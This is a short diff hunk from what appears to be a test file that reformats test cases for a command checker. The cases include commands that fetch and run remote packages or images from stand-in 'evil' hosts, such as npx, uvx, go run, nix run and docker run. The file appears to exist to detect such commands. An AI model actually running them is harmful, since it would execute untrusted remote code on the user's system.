@@ -88,7 +88,11 @@ it.each([
   ],
   ...["npx evil", "npx --yes @evil/x a", "npx -p evil tsc", "bunx evil", "uvx evil", "uvx --from evil ruff"],
   ...["pipx run evil", "uv tool run evil", "go run evil.example/x@latest", "nix run github:evil/x"],
-  ...["docker run --rm evil/x", "podman run -it registry.evil.example:5000/x:1", "mvn dependency:get -Dartifact=x"],
+  ...[
+    "docker run --rm evil/x",
+    "podman run -it registry.evil.example:5000/x:1",
+    "mvn dependency:get -Dartifact=x",
+  ],
   ...["dotnet add package evil", "snap install evil", "code --install-extension evil.x"],
   ...[
     "python3 -c 'import requests; requests.get(u)'",
